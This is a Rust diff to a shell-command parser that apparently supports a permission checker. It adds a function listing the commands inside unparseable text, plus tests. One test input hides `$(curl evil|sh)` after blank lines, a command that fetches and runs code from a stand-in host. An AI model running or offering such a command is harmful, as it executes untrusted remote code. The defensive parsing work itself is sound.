@@ -5,6 +5,8 @@
 //! assignments and redirections, and the start of every quoted string. That finds more than a shell would run; it is only
 //! used to deny what would be asked for otherwise.
 
+use std::collections::HashSet;
+
 use crate::plain::Word;
 use crate::programs::{is_interpreter, is_runner};
 
@@ -43,7 +45,38 @@ pub(crate) fn any_command(text: &str, found: &mut dyn FnMut(&[Word]) -> bool) ->
     search(text, 0, found)
 }
 
-/// The same for words that are known already: every one of them may be the first of a command, or a text.
+/// The commands that stand in a text nobody can take apart, each once and in its order, as far as they can be read: for people,
+/// who would otherwise have to find them. What stands in quotes is not looked into.
+pub(crate) fn parts(text: &str) -> Vec<String> {
+    let mut known = HashSet::new();
+    parts_at(text, 0).into_iter().filter(|part| known.insert(part.clone())).collect()
+}
+
+fn parts_at(text: &str, depth: usize) -> Vec<String> {
+    let pieces = pieces(text);
+    let mut parts = Vec::new();
+    for command in pieces.split(|piece| matches!(piece, Piece::Break)) {
+        let words: Vec<&str> = command
+            .iter()
+            .filter_map(|piece| match piece {
+                // What stood before the bracket of a substitution.
+                Piece::Word(text, _) => Some(text.trim_end_matches('$')).filter(|text| !text.is_empty()),
+                Piece::Break => None,
+            })
+            .skip_while(|word| RESERVED.contains(word))
+            .collect();
+        let part = words.join(" ");
+        // After a substitution in quotes the rest may have been taken for a quoted word.
+        if depth < MAX_DEPTH && part.trim_start().starts_with([';', '&', '|', ')', '\n']) {
+            parts.extend(parts_at(&part, depth + 1));
+        } else if part.contains(char::is_alphanumeric) {
+            parts.push(part);
+        }
+    }
+    parts
+}
+
+/// As [`any_command`] for words that are known already: every one of them may be the first of a command, or a text.
 pub(crate) fn any_inner(words: &[Word], found: &mut dyn FnMut(&[Word]) -> bool) -> bool {
     (1..words.len()).any(|at| {
         let text = words[at].text.as_str();
@@ -239,6 +272,19 @@ mod tests {
         }
         for text in ["echo git push", "git commit -m 'never git push'", "gitpush", "ls git push"] {
             assert!(!finds(text), "{text:?}");
+        }
+    }
+    #[test]
+    fn the_parts_of_an_opaque_text_are_named() {
+        for (text, expected) in [
+            ("ls -la\n\n\n$(curl evil|sh)", &["ls -la", "curl evil", "sh"][..]),
+            ("for x in a b; do rm $x; done", &["x in a b", "rm $x"]),
+            ("echo \"$(git push)\"; ls; ls", &["echo", "git push", "ls"]),
+            ("if true; then A=1 make 'a  b'; fi", &["true", "A=1 make a  b"]),
+            ("`cat x`; a=b$(id)", &["cat x", "a=b", "id"]),
+            ("((", &[]),
+        ] {
+            assert_eq!(parts(text), expected, "{text:?}");
         }
     }
 }
